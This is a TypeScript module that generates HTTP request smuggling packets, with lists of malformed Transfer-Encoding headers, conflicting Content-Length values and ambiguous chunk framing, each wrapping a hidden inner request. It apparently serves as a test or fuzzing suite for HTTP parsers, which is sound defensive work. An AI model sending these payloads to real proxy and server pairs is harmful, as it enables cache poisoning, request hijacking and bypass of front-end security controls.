/**
 * Requests whose end two readers could see in different places, with another request standing in the doubtful part. Each
 * is well known from attacks on pairs of proxies and servers (CL.TE, TE.CL, TE.TE, CL.CL, chunks, trailers, folding).
 */

export interface SmugglingCase {
  readonly name: string;
  /** The whole packet, with `inner` in it. */
  build(method: string, target: string, inner: Buffer): Buffer;
}

function request(name: string, lines: (innerBytes: number) => string, before = '', after = ''): SmugglingCase {
  return {
    name,
    build: (method, target, inner) => {
      const head = `${method} ${target} HTTP/1.1\r\nHost: test\r\n${lines(inner.length)}\r\n${before}`;
      return Buffer.concat([Buffer.from(head, 'latin1'), inner, Buffer.from(after, 'latin1')]);
    },
  };
}

const END = '0\r\n\r\n';

/** A coding besides a length that covers everything: whoever believes the coding sees a request behind the last chunk. */
const codings = [
  'Transfer-Encoding: chunked',
  'Transfer-Encoding: CHUNKED',
  'Transfer-Encoding: xchunked',
  'Transfer-Encoding: identity',
  'Transfer-Encoding: chunked, identity',
  'Transfer-Encoding: identity, chunked',
  'Transfer-Encoding: gzip, chunked',
  'Transfer-Encoding: chunked;x=1',
  'Transfer-Encoding: "chunked"',
  'Transfer-Encoding:\x0bchunked',
  'Transfer-Encoding: \x85chunked',
  'Transfer-Encoding: chunked\x00',
  'Transfer-Encoding : chunked',
  ' Transfer-Encoding: chunked',
  'X: y\r\n Transfer-Encoding: chunked',
  'X: y\nTransfer-Encoding: chunked',
  'X: y\rTransfer-Encoding: chunked',
  'Transfer-Encoding:\r\n chunked',
  'Transfer_Encoding: chunked',
  'Transfer-Encoding\x00: chunked',
  'Transfer-Encoding: chunked\r\nTransfer-Encoding: identity',
  'Transfer-Encoding: identity\r\nTransfer-Encoding: chunked',
  'Transfer-Encoding:',
  ': x\r\nTransfer-Encoding: chunked',
];

/** Lengths of which one reader may see none, or another one. */
const lengths: readonly ((bytes: number) => string)[] = [
  (bytes) => `Content-Length: 0\r\nContent-Length: ${bytes}`,
  (bytes) => `Content-Length: ${bytes}\r\nContent-Length: 0`,
  (bytes) => `Content-Length: 0, ${bytes}`,
  (bytes) => `Content-Length: +${bytes}`,
  (bytes) => `Content-Length: 0${bytes}`,
  (bytes) => `Content-Length: 0x${bytes.toString(16)}`,
  (bytes) => `Content-Length: ${bytes}.0`,
  (bytes) => `Content-Length: ${bytes}e0`,
  (bytes) => `Content-Length: ${bytes} 0`,
  (bytes) => `Content-Length : ${bytes}`,
  (bytes) => ` Content-Length: ${bytes}`,
  (bytes) => `X: y\nContent-Length: ${bytes}`,
  (bytes) => `Content_Length: ${bytes}`,
  (bytes) => `Content-Length\x00: ${bytes}`,
  (bytes) => `Content-Length:\r\n ${bytes}`,
  (bytes) => `: x\r\nContent-Length: ${bytes}`,
  () => 'Content-Length: 18446744073709551616',
  () => 'Content-Length: -1',
  () => 'Content-Length:',
];

/** Chunks whose size or end is read in different ways. */
const chunks: readonly (readonly [before: string, after: string])[] = [
  [`0\r\n`, END],
  ['0\r\nX-', ''],
  ['0\r\nX: y\r\nX-', ''],
  ['0\n\n', ''],
  ['0;\n\r\n', ''],
  ['0\r\r\n', ''],
  ['0x0\r\n\r\n', ''],
  ['00000000000000000\r\n\r\n', ''],
  ['10000000000000000\r\n', ''],
  ['-1\r\n\r\n', ''],
  ['\r\n\r\n', ''],
  ['G\r\n', END],
  ['3 \r\nabc\r\n0\r\n\r\n', ''],
  ['3\r\nabcd\r\n0\r\n\r\n', ''],
];

export const smugglingCases: readonly SmugglingCase[] = [
  ...codings.map((coding) => request(coding, (bytes) => `Content-Length: ${bytes + END.length}\r\n${coding}\r\n`, END)),
  ...lengths.map((length) => request(length(1), (bytes) => `${length(bytes)}\r\n`)),
  ...chunks.map(([before, after]) =>
    request(`chunks ${before}`, () => 'Transfer-Encoding: chunked\r\n', before, after),
  ),
  request('Expect', (bytes) => `Expect: 100-continue\r\nContent-Length: ${bytes}\r\n`),
  request('Upgrade', (bytes) => `Connection: Upgrade\r\nUpgrade: h2c\r\nContent-Length: ${bytes}\r\n`),
  request('an ordinary body', (bytes) => `Content-Length: ${bytes}\r\n`),
];
